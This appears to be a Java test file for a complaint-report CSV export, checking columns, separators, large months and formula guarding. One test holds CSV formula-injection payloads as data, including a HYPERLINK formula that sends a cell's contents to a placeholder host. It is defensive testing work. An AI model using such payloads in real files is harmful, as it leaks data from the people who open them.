package id.tanggap.reporting.record;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import id.tanggap.contracts.book.Guard;
import id.tanggap.contracts.vocabulary.Channel;
import id.tanggap.reporting.ComplaintStory;
import id.tanggap.reporting.ReportingResource;
import id.tanggap.reporting.facts.Feed;
import id.tanggap.testkit.LibreOffice;
import id.tanggap.testkit.Tokens;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
@WithTestResource(ReportingResource.class)
class RecordFileTest {
    private static final String OCTOBER = "/api/reporting/v1/records/surakarta?month=2026-10&audience=recap";
    private static final String INTERNAL = "/api/reporting/v1/records/surakarta?month=2026-10";

    @Inject
    Feed feed;

    @BeforeEach
    void startsEmpty() {
        feed.forgetAll();
    }

    @Test
    void isAFileWithTheColumnsOfTheRealRecap() throws IOException {
        var story = ComplaintStory.in("surakarta")
                .saying(null, "Kata \"lurah\",\r\ntunggu dulu", "=1+1")
                .receivedAt("2026-10-31T16:30:00Z");
        feed.take(story.answered(Duration.ofHours(1)));

        var file = file(OCTOBER);

        assertThat(file.header("Content-Type")).isEqualToIgnoringCase("text/csv;charset=UTF-8");
        assertThat(file.header("Content-Disposition"))
                .isEqualTo("attachment; filename=\"aduan-surakarta-2026-10.csv\"");
        assertThat(file.header("Content-Length")).isNull();
        assertThat(lines(file))
                .containsExactly(Map.of(
                        "NO", "1",
                        "TANGGAL", "31/10/2026 23:30",
                        "ADUAN", "Kata \"lurah\",\r\ntunggu dulu",
                        "DINAS", "Dinas Pekerjaan Umum dan Penataan Ruang",
                        "TANGGAL JAWABAN", "01/11/2026 00:30",
                        "JAWABAN", "'=1+1",
                        "SOSIAL MEDIA", "WhatsApp",
                        "LINK ADUAN", "https://aduan.example/lacak/?nomor=" + story.number(),
                        "NOMOR ADUAN", story.number(),
                        "SIFAT", "Terbuka"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            ''             | ;    | "1,0"
            &sep=semicolon | ;    | "1,0"
            &sep=comma     | ,    | "1.0"
            &sep=tab       | '\t' | "1,0"
            """)
    void isSeparatedAsTheSpreadsheetExpects(String asked, String separator, String hours) {
        var story = ComplaintStory.in("surakarta").receivedAt("2026-10-05T02:00:00Z");
        feed.take(story.answered(Duration.ofDays(3).plusHours(1)));

        assertThat(file(INTERNAL + asked).asString().lines())
                .hasSize(2)
                .first()
                .asString()
                .startsWith("\uFEFF\"NO\"" + separator + "\"NOMOR ADUAN\"" + separator);
        assertThat(file(INTERNAL + asked).asString()).contains(separator + hours + separator);
    }

    @Test
    void tellsOfASeparatorThatThereIsNot() {
        assertThat(file(OCTOBER + "&sep=titik").jsonPath().getString("errors[0].field"))
                .isEqualTo("sep");
    }

    /** Of field case F1, in every column that a stranger fills, and with whatever separator it is opened. */
    @ParameterizedTest
    @ValueSource(strings = {"semicolon", "comma", "tab"})
    void runsNothingInASpreadsheet(String separator) {
        var attack = "Lampu mati.\n=HYPERLINK(\"http://example.invalid/?x=\"&B1,\"rincian\")\n;=1+2;sisa,=1+2,+3\t=4+4";
        var attacks =
                List.of(attack, "=1+2", " =1+2", "\u200B=1+2", "\"=1+2", "-1+2", "+1+2", "@SUM(1)", "＝1+2", "\t=1+2");
        attacks.forEach(one -> feed.take(ComplaintStory.in("surakarta")
                .about("=1+2", Channel.WEB, "=1+2")
                .saying(one, one, one)
                .answered(Duration.ofHours(1))));

        var csv = file(INTERNAL + "&sep=" + separator).asByteArray();

        for (var opened : List.of(';', ',', '\t')) {
            assertThat(LibreOffice.openOrSkip(csv, opened).stream().flatMap(List::stream))
                    .noneMatch(LibreOffice.Cell::formula);
        }
    }

    /** Numbers as numbers, times as times, and each word in its own cell with the guards that stand before formulas. */
    @Test
    void isOpenedInASpreadsheetAsItWasWritten() {
        var words = "Kata \"lurah\", tunggu;  dulu\n=1+1\n\nemoji 🚧 'kutip'";
        var story = ComplaintStory.in("surakarta").saying(null, words, "'=1+1").receivedAt("2026-10-05T02:00:00Z");
        feed.take(story.answered(Duration.ofDays(3).plusHours(1)));

        var lines = LibreOffice.openOrSkip(file(INTERNAL).asByteArray(), ';');

        var headings = lines.getFirst().stream().map(LibreOffice.Cell::value).toList();
        var cells = lines.get(1);
        assertThat(cells.get(headings.indexOf("NO"))).isEqualTo(new LibreOffice.Cell("float", "1", false));
        assertThat(cells.get(headings.indexOf("TANGGAL")))
                .isEqualTo(new LibreOffice.Cell("date", "2026-10-05T09:00:00", false));
        assertThat(cells.get(headings.indexOf("TERLAMBAT (JAM)"))).isEqualTo(new LibreOffice.Cell("float", "1", false));
        assertThat(cells.get(headings.indexOf("ADUAN")).value()).isEqualTo(Guard.put(words));
        assertThat(cells.get(headings.indexOf("JAWABAN")).value()).isEqualTo("''=1+1");
    }

    @Test
    void comesForAPlainLinkToo() throws IOException {
        assertThat(lines(given().auth().oauth2(head()).accept("text/html,*/*").get(OCTOBER + "&format=csv")))
                .isEmpty();
    }

    @Test
    void holdsEveryComplaintOfAMonthOfManyChunks() throws IOException {
        for (var count : List.of(500, 1001)) {
            feed.forgetAll();
            var stories = IntStream.range(0, count)
                    .mapToObj(i -> ComplaintStory.in("surakarta"))
                    .toList();
            feed.take(stories.stream().map(ComplaintStory::received).toList());

            var lines = lines(file(OCTOBER));

            assertThat(lines)
                    .extracting(line -> line.get("NO"))
                    .containsExactlyElementsOf(IntStream.rangeClosed(1, count)
                            .mapToObj(String::valueOf)
                            .toList());
            assertThat(lines)
                    .extracting(line -> line.get("LINK ADUAN"))
                    .doesNotHaveDuplicates()
                    .hasSize(count);
        }
    }

    private static Response file(String path) {
        return given().auth().oauth2(head()).accept("text/csv").get(path);
    }

    private static List<Map<String, String>> lines(Response file) throws IOException {
        assertThat(file.statusCode()).isEqualTo(200);
        var text = new String(file.asByteArray(), StandardCharsets.UTF_8);
        assertThat(text.lines().findFirst().orElseThrow().replace("\"", ""))
                .isEqualTo(
                        "\uFEFFNO;TANGGAL;ADUAN;DINAS;TANGGAL JAWABAN;JAWABAN;SOSIAL MEDIA;LINK ADUAN;NOMOR ADUAN;SIFAT");
        try (var lines = new CsvMapper()
                .readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader().withColumnSeparator(';'))
                .<Map<String, String>>readValues(text.substring(1))) {
            return lines.readAll();
        }
    }

    private static String head() {
        return Tokens.of("siti", "/surakarta", "head");
    }
}
